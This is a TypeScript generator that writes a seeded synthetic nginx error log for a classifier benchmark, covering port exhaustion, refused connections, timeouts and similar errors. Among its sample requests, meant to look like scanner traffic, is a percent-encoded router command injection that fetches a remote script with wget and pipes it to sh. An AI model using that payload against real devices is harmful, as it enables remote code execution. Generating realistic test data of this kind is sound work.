/**
 * A realistic nginx error log for the error-log benchmark: deterministic (seeded),
 * 1 000 000 lines by default.
 *
 *   node dist/bench/errorlog/generate.js <out-file> [--lines N] [--seed S]
 *
 * Every line is one nginx 1.22 to 1.30 wrote or could write (formats from
 * ngx_log_error_core, ngx_http_log_error_handler and ngx_stream_log_error;
 * messages from ngx_event_connect.c, ngx_http_upstream.c, ngx_event_accept.c,
 * ngx_resolver.c, ngx_http_static_module.c…): port exhaustion is the majority,
 * then refused connections, timeouts on connect and on read, EMFILE from socket()
 * and accept4(), ENFILE, worker_connections, no live upstreams, bind() EADDRINUSE
 * (proxy_bind; a listener's bind() is "other"), resets, and rarer kinds among the
 * "other" lines: TLS handshakes with the upstream that fail or time out,
 * unreachable hosts and networks, resolver failures, proxy_bind to an address the
 * host does not have, stream sessions (TCP and UDP), IPv4-mapped peers; and lines
 * that are "other" (open() failures, notices, buffering warnings, premature
 * closes, client timeouts, errnos the classifier does not name). Destinations are IPv4, IPv6 ([…]:port) and unix sockets; both nginx's
 * 1.22 "connect() to X failed" and the older "connect() failed" (peer only in
 * the upstream field) appear. The client-controlled tail (client, server,
 * request, upstream URI, host) varies the way real traffic does: query strings,
 * percent-encoding, UTF-8, scanners' junk, HTTP/2, empty server names. A few
 * requests have long URIs; some of those reach NGX_MAX_ERROR_STR (2048 bytes)
 * and are cut there, as nginx cuts them. Timestamps only go forward.
 *
 * The generator records which kind and destination it meant for each line, so the
 * benchmark can check the classifier against the intent as well as against mtail.
 */
import { closeSync, openSync, writeSync } from 'node:fs';
import { pathToFileURL } from 'node:url';
import type { ErrorKind } from '../../agent/errorlog/parse/classify.js';

export interface GenerateOptions {
  lines: number;
  seed: number;
}

export interface Generated {
  lines: number;
  bytes: number;
  /** What each line was written as: kind → lines; "unparsed" for lines not in nginx's format. */
  intended: Record<string, number>;
  /** Lines cut at NGX_MAX_ERROR_STR (the cut may take the upstream field, so only their kind is known). */
  truncated: number;
}

export const GENERATE_DEFAULTS: GenerateOptions = Object.freeze({ lines: 1_000_000, seed: 20261121 });

/** nginx cuts an entry at NGX_MAX_ERROR_STR bytes (src/core/ngx_log.h), newline included. */
const NGX_MAX_ERROR_STR = 2048;

/** mulberry32: small, fast, and the same sequence on every Node version. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Upstream {
  /** As nginx prints the peer: ip:port, [v6]:port, unix:/path. */
  peer: string;
  scheme: 'http' | 'https' | 'fastcgi' | 'uwsgi' | 'grpc';
  /** The upstream{} block name, for "no live upstreams" (upstream: "http://backend/…"). */
  name: string;
  weight: number;
}

const TCP_UPSTREAMS: Upstream[] = [
  { peer: '10.0.0.5:8080', scheme: 'http', name: 'api_backend', weight: 40 },
  { peer: '10.0.0.6:8080', scheme: 'http', name: 'api_backend', weight: 15 },
  { peer: '10.0.1.17:9000', scheme: 'http', name: 'search', weight: 10 },
  { peer: '172.16.4.2:80', scheme: 'http', name: 'legacy', weight: 6 },
  { peer: '192.168.10.20:443', scheme: 'https', name: 'payments', weight: 5 },
  { peer: '[2001:db8::10]:8080', scheme: 'http', name: 'api_v6', weight: 10 },
  { peer: '[fd00:1:2::b]:50051', scheme: 'grpc', name: 'grpc_users', weight: 4 },
  { peer: '10.0.2.33:3000', scheme: 'http', name: 'frontend', weight: 6 },
];
const UNIX_UPSTREAMS: Upstream[] = [
  { peer: 'unix:/run/php/php8.2-fpm.sock', scheme: 'fastcgi', name: 'php', weight: 3 },
  { peer: 'unix:/var/run/app/gunicorn.sock', scheme: 'http', name: 'app_unix', weight: 2 },
];
const ALL_UPSTREAMS = [...TCP_UPSTREAMS, ...UNIX_UPSTREAMS];

const SERVERS = ['api.example.com', 'www.example.com', 'shop.example.net', '_', '', 'localhost', 'static.example.org'];
const PATHS = [
  '/',
  '/api/v1/items',
  '/api/v1/items/8842',
  '/api/v2/search',
  '/login',
  '/cart/checkout',
  '/static/app.3f9c1e.js',
  '/health',
  '/index.php',
  '/wp-login.php',
  '/users/7/orders',
  '/graphql',
  '/images/caf%C3%A9.png',
  '/docs/日本語/intro',
  '/.env',
  '/favicon.ico',
];
const QUERIES = ['', '', '', '?page=2', '?q=port+exhaustion&lang=en', '?id=42&sort=desc', '?utm_source=newsletter&utm_medium=email', '?callback=jQuery3600_17&_=1700000000000', '?redirect=%2Fcart%3Fstep%3D2'];
const METHODS = ['GET', 'GET', 'GET', 'GET', 'POST', 'POST', 'PUT', 'DELETE', 'HEAD', 'OPTIONS'];
const PROTOCOLS = ['HTTP/1.1', 'HTTP/1.1', 'HTTP/1.1', 'HTTP/2.0', 'HTTP/1.0'];
const WORKERS = [23117, 23118, 23119, 23120];
const MASTER = 23116;

function pad2(n: number): string {
  return n < 10 ? `0${n}` : String(n);
}

export function generateErrorLog(path: string, options: Partial<GenerateOptions> = {}): Generated {
  const { lines, seed } = { ...GENERATE_DEFAULTS, ...options };
  const r = rng(seed);
  const int = (n: number) => Math.floor(r() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  const weighted = (xs: readonly Upstream[]): Upstream => {
    let total = 0;
    for (const x of xs) total += x.weight;
    let k = r() * total;
    for (const x of xs) {
      k -= x.weight;
      if (k < 0) return x;
    }
    return xs[xs.length - 1]!;
  };

  const intended: Record<string, number> = {};
  let truncated = 0;
  /** The destination is for the reader: the per-kind total is what is recorded. */
  const mean = (kind: ErrorKind | 'unparsed', _destination: string | null) => {
    intended[kind] = (intended[kind] ?? 0) + 1;
  };

  let timeMs = Date.UTC(2026, 10, 21, 6, 0, 0);
  let stamp = '';
  let stampSecond = -1;
  const cids = new Map<number, number>(WORKERS.map((w, i) => [w, 1000 + i * 7]));

  const client = (): string => {
    const k = r();
    if (k < 0.55) return `203.0.113.${1 + int(254)}`;
    if (k < 0.85) return `198.51.100.${1 + int(254)}`;
    if (k < 0.95) return `2001:db8:beef::${(1 + int(0xffff)).toString(16)}`;
    return `10.8.${int(256)}.${1 + int(254)}`;
  };
  const longUri = (): string => {
    const n = 400 + int(1800);
    let s = '/api/v1/report?filter=';
    while (s.length < n) s += pick(['status%3Dopen', 'owner%3D', 'tag%3Durgent', '%2C', 'x', 'abc123']);
    return s;
  };
  const request = (): { line: string; uri: string } => {
    const k = r();
    if (k < 0.003) return { line: '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03', uri: '/' };
    if (k < 0.006) return { line: 'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F198.51.100.7%2Ft%7Csh%60) HTTP/1.1', uri: '/cgi-bin/luci/;stok=/locale' };
    const uri = k < 0.008 ? longUri() : `${pick(PATHS)}${pick(QUERIES)}`;
    return { line: `${pick(METHODS)} ${uri} ${pick(PROTOCOLS)}`, uri };
  };
  /** ", client: …, server: …, request: "…"[, upstream: "…"], host: "…"" */
  const tail = (up: Upstream | null, upstreamName = false): string => {
    const server = pick(SERVERS);
    const req = request();
    let s = `, client: ${client()}, server: ${server}, request: "${req.line}"`;
    if (up !== null) {
      if (up.scheme === 'fastcgi' || up.scheme === 'uwsgi') s += `, upstream: "${up.scheme}://${upstreamName ? up.name : up.peer}:"`;
      else if (up.scheme === 'grpc') s += `, upstream: "grpc://${upstreamName ? up.name : up.peer}"`;
      else s += `, upstream: "${up.scheme}://${upstreamName ? up.name : up.peer}${up.peer.startsWith('unix:') && !upstreamName ? ':' : ''}${req.uri}"`;
    }
    const k = r();
    if (k < 0.9) s += `, host: "${server === '' || server === '_' ? '198.51.100.1' : server}"`;
    else if (k < 0.97) s += `, host: "${server === '' || server === '_' ? 'example.com' : server}:8443"`;
    // else: no Host header (HTTP/1.0 clients), no host field
    if (r() < 0.02) s += `, referrer: "https://www.example.com${pick(PATHS)}"`;
    return s;
  };

  let out = '';
  let bytes = 0;
  const fd = openSync(path, 'w');
  const flush = () => {
    const b = Buffer.from(out, 'utf8');
    writeSync(fd, b);
    bytes += b.length;
    out = '';
  };

  try {
    for (let i = 0; i < lines; i++) {
      // Bursty but monotonic: mostly a few ms apart, sometimes a pause of seconds.
      timeMs += r() < 0.001 ? 1000 + int(30_000) : int(40);
      const second = Math.floor(timeMs / 1000);
      if (second !== stampSecond) {
        stampSecond = second;
        const d = new Date(second * 1000);
        stamp = `${d.getUTCFullYear()}/${pad2(d.getUTCMonth() + 1)}/${pad2(d.getUTCDate())} ${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}`;
      }
      const pid = pick(WORKERS);
      const cid = cids.get(pid)! + 1 + int(3);
      cids.set(pid, cid);
      const head = (level: string, withCid = true, p = pid) => `${stamp} [${level}] ${p}#${p}: ${withCid ? `*${cid} ` : ''}`;

      let line: string;
      const k = r() * 1000;
      if (k < 600) {
        // Port exhaustion towards a TCP upstream (ngx_event_connect_peer, 1.22 wording).
        const up = weighted(TCP_UPSTREAMS);
        line = `${head('crit')}connect() to ${up.peer} failed (99: Cannot assign requested address) while connecting to upstream${tail(up)}`;
        mean('eaddrnotavail', up.peer);
      } else if (k < 680) {
        const up = weighted(ALL_UPSTREAMS);
        // Older nginx (< 1.19.x style) names the peer only in the upstream field.
        const msg = r() < 0.7 ? `connect() to ${up.peer} failed` : 'connect() failed';
        line = `${head('error')}${msg} (111: Connection refused) while connecting to upstream${tail(up)}`;
        mean('econnrefused', up.peer);
      } else if (k < 730) {
        const up = weighted(TCP_UPSTREAMS);
        line = `${head('error')}upstream timed out (110: Connection timed out) while connecting to upstream${tail(up)}`;
        mean('etimedout_connect', up.peer);
      } else if (k < 780) {
        const up = weighted(ALL_UPSTREAMS);
        const phase = pick(['reading response header from upstream', 'reading upstream', 'sending request to upstream']);
        line = `${head('error')}upstream timed out (110: Connection timed out) while ${phase}${tail(up)}`;
        mean('upstream_timeout_read', up.peer);
      } else if (k < 810) {
        if (r() < 0.6) {
          const up = weighted(ALL_UPSTREAMS);
          line = `${head('alert')}socket() failed (24: Too many open files) while connecting to upstream${tail(up)}`;
          mean('emfile', up.peer);
        } else {
          line = `${head('crit', false)}accept4() failed (24: Too many open files)`;
          mean('emfile', null);
        }
      } else if (k < 820) {
        if (r() < 0.5) {
          line = `${head('crit', false)}accept4() failed (23: Too many open files in system)`;
          mean('enfile', null);
        } else {
          const up = weighted(TCP_UPSTREAMS);
          line = `${head('alert')}socket() failed (23: Too many open files in system) while connecting to upstream${tail(up)}`;
          mean('enfile', up.peer);
        }
      } else if (k < 840) {
        if (r() < 0.7) {
          const up = weighted(ALL_UPSTREAMS);
          line = `${head('alert')}1024 worker_connections are not enough while connecting to upstream${tail(up)}`;
          mean('worker_connections', up.peer);
        } else {
          line = `${head('alert', false)}1024 worker_connections are not enough`;
          mean('worker_connections', null);
        }
      } else if (k < 870) {
        const up = weighted(ALL_UPSTREAMS);
        // upstream: "http://api_backend/…": a name, no peer.
        line = `${head('error')}no live upstreams while connecting to upstream${tail(up, true)}`;
        mean('no_live_upstreams', null);
      } else if (k < 880) {
        if (r() < 0.9) {
          // proxy_bind with a source address that is busy.
          const up = weighted(TCP_UPSTREAMS);
          line = `${head('crit')}bind(10.0.0.${200 + int(20)}) failed (98: Address already in use) while connecting to upstream${tail(up)}`;
          mean('eaddrinuse', up.peer);
        } else {
          // A listener's bind() (ngx_open_listening_sockets): no upstream event.
          line = `${head('emerg', false, MASTER)}bind() to 0.0.0.0:${pick(['80', '443', '8080'])} failed (98: Address already in use)`;
          mean('other', null);
        }
      } else if (k < 910) {
        const up = weighted(ALL_UPSTREAMS);
        const call = pick(['recv() failed (104: Connection reset by peer) while reading response header from upstream', 'readv() failed (104: Connection reset by peer) while reading upstream', 'writev() failed (104: Connection reset by peer) while sending request to upstream']);
        line = `${head('error')}${call}${tail(up)}`;
        mean('econnreset', up.peer);
      } else if (k < 999) {
        const o = int(13);
        if (o === 0) {
          line = `${head('error')}open() "/usr/share/nginx/html${pick(['/favicon.ico', '/robots.txt', '/apple-touch-icon.png', '/.well-known/security.txt'])}" failed (2: No such file or directory)${tail(null)}`;
          mean('other', null);
        } else if (o === 1) {
          line = `${head('notice', false, MASTER)}${pick(['signal process started', 'signal 1 (SIGHUP) received from 4242, reconfiguring', 'reconfiguring', 'signal 10 (SIGUSR1) received from 4242, reopening logs', 'reopening logs', 'start worker process 23121', 'worker process 23117 exited with code 0'])}`;
          mean('other', null);
        } else if (o === 2) {
          const up = weighted(TCP_UPSTREAMS);
          line = `${head('warn')}an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/${int(10)}/${pad2(int(100))}/00000${100000 + int(899999)} while reading upstream${tail(up)}`;
          mean('other', up.peer);
        } else if (o === 3) {
          const up = weighted(TCP_UPSTREAMS);
          line = `${head('error')}upstream prematurely closed connection while reading response header from upstream${tail(up)}`;
          mean('other', up.peer);
        } else if (o === 4) {
          const up = TCP_UPSTREAMS[4]!; // the https one
          if (r() < 0.7) {
            line = `${head('error')}SSL_do_handshake() failed (SSL: error:0A00010B:SSL routines::wrong version number) while SSL handshaking to upstream${tail(up)}`;
            mean('upstream_tls_failed', up.peer);
          } else {
            line = `${head('error')}upstream timed out (110: Connection timed out) while SSL handshaking to upstream${tail(up)}`;
            mean('upstream_tls_timeout', up.peer);
          }
        } else if (o === 5) {
          const up = weighted(TCP_UPSTREAMS);
          if (r() < 0.6) {
            line = `${head('error')}connect() to ${up.peer} failed (113: No route to host) while connecting to upstream${tail(up)}`;
            mean('ehostunreach', up.peer);
          } else {
            line = `${head('error')}connect() to ${up.peer} failed (101: Network is unreachable) while connecting to upstream${tail(up)}`;
            mean('enetunreach', up.peer);
          }
        } else if (o === 6) {
          line = `${head('error')}limiting requests, excess: ${int(50)}.${int(1000)} by zone "api", client: ${client()}, server: api.example.com, request: "GET /api/v1/items HTTP/1.1", host: "api.example.com"`;
          mean('other', null);
        } else if (o === 7) {
          const c = r();
          if (c < 0.5) {
            line = `${head('info')}client ${client()} closed keepalive connection`;
            mean('other', null);
          } else if (c < 0.75) {
            // A client's timeout is not an upstream's.
            line = `${head('info')}client timed out (110: Connection timed out) while reading client request headers, client: ${client()}, server: ${pick(SERVERS)}`;
            mean('other', null);
          } else {
            // A client-side reset: errno 104 decides the kind, and no upstream is named.
            line = `${head('info')}recv() failed (104: Connection reset by peer) while reading client request line, client: ${client()}, server: ${pick(SERVERS)}`;
            mean('econnreset', null);
          }
        } else if (o === 8) {
          const up = weighted(TCP_UPSTREAMS);
          line = `${head('warn')}upstream server temporarily disabled while connecting to upstream${tail(up)}`;
          mean('other', up.peer);
        } else if (o === 9) {
          // The resolver (proxy_pass with variables): no upstream connection, no destination.
          const q = int(4);
          const name = pick(['api.internal', 'search.svc.cluster.local', 'payments.example.net']);
          if (q === 0) line = `${head('error')}${name} could not be resolved (110: Operation timed out), client: ${client()}, server: ${pick(SERVERS)}, request: "GET / HTTP/1.1", host: "h"`;
          else if (q === 1) line = `${head('error')}${name} could not be resolved (3: Host not found), client: ${client()}, server: ${pick(SERVERS)}, request: "GET / HTTP/1.1", host: "h"`;
          else if (q === 2) line = `${head('error', false)}send() failed (111: Connection refused) while resolving, resolver: 10.96.0.10:53`;
          else line = `${head('error', false)}recv() failed (111: Connection refused) while resolving, resolver: 127.0.0.53:53`;
          mean('resolver', null);
        } else if (o === 10) {
          // proxy_bind to an address this host does not have.
          const up = weighted(TCP_UPSTREAMS);
          line = `${head('crit')}bind(192.0.2.${240 + int(10)}) failed (99: Cannot assign requested address) while connecting to upstream${tail(up)}`;
          mean('proxy_bind_unavailable', up.peer);
        } else if (o === 11) {
          // The stream module: the peer without a scheme; UDP sessions say "udp client".
          const udp = r() < 0.4;
          const peer = udp ? `10.0.3.${1 + int(3)}:53` : `10.0.4.${1 + int(3)}:5432`;
          const stream = `, ${udp ? 'udp ' : ''}client: ${client()}, server: 0.0.0.0:${udp ? 53 : 5432}, upstream: "${peer}", bytes from/to client:${int(900)}/0, bytes from/to upstream:0/${int(900)}`;
          if (r() < 0.5) {
            line = `${head('error')}connect() failed (111: Connection refused) while connecting to upstream${stream}`;
            mean('econnrefused', peer);
          } else {
            line = `${head('error')}upstream timed out (110: Connection timed out) while ${udp ? 'proxying connection' : 'connecting to upstream'}${stream}`;
            mean(udp ? 'upstream_timeout_read' : 'etimedout_connect', peer);
          }
        } else {
          // An IPv4-mapped peer (a dual-stack resolver answer): the IPv4 destination.
          const mapped = `[::ffff:10.0.0.${5 + int(2)}]:8080`;
          const up: Upstream = { peer: mapped, scheme: 'http', name: 'api_backend', weight: 1 };
          line = `${head('crit')}connect() to ${mapped} failed (99: Cannot assign requested address) while connecting to upstream${tail(up)}`;
          mean('eaddrnotavail', mapped.slice(8).replace(']', ''));
        }
      } else {
        // Not nginx's format: what lands in error.log from nginx's stderr before the
        // log is configured, or from a wrapper script.
        line = pick(['nginx: [warn] the "listen ... http2" directive is deprecated, use the "http2" directive instead in /etc/nginx/conf.d/default.conf:3', 'nginx: configuration file /etc/nginx/nginx.conf test is successful', 'Killed', '']);
        mean('unparsed', null);
      }
      // NGX_MAX_ERROR_STR: nginx stops writing at 2047 bytes plus the newline. The
      // message comes before ", client: ", so a cut only ever shortens the tail.
      if (line.length > NGX_MAX_ERROR_STR - 1 && Buffer.byteLength(line) > NGX_MAX_ERROR_STR - 1) {
        flush();
        const cut = Buffer.concat([Buffer.from(line, 'utf8').subarray(0, NGX_MAX_ERROR_STR - 1), Buffer.from('\n')]);
        writeSync(fd, cut);
        bytes += cut.length;
        truncated++;
        continue;
      }
      out += `${line}\n`;
      if (out.length >= 1 << 20) flush();
    }
    flush();
  } finally {
    closeSync(fd);
  }
  return { lines, bytes, intended, truncated };
}

function parseArgs(argv: readonly string[]): { path: string } & GenerateOptions {
  const o = { ...GENERATE_DEFAULTS };
  let path: string | undefined;
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i]!;
    if (a === '--lines' || a === '--seed') {
      const v = Number(argv[++i]);
      if (!Number.isSafeInteger(v) || v < 0) throw new Error(`${a} needs a non-negative integer`);
      if (a === '--lines') o.lines = v;
      else o.seed = v;
    } else if (path === undefined && !a.startsWith('--')) path = a;
    else throw new Error(`unknown argument ${a}`);
  }
  if (path === undefined) throw new Error('usage: generate.js <out-file> [--lines N] [--seed S]');
  return { path, ...o };
}

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const { path, lines, seed } = parseArgs(process.argv.slice(2));
  const t0 = performance.now();
  const g = generateErrorLog(path, { lines, seed });
  const kinds = Object.entries(g.intended).sort((a, b) => b[1] - a[1]);
  console.log(`${path}: ${g.lines} lines (${g.truncated} cut at ${NGX_MAX_ERROR_STR} bytes), ${(g.bytes / 1e6).toFixed(1)} MB in ${((performance.now() - t0) / 1000).toFixed(2)} s`);
  for (const [k, n] of kinds) console.log(`  ${k.padEnd(22)} ${String(n).padStart(8)}`);
}
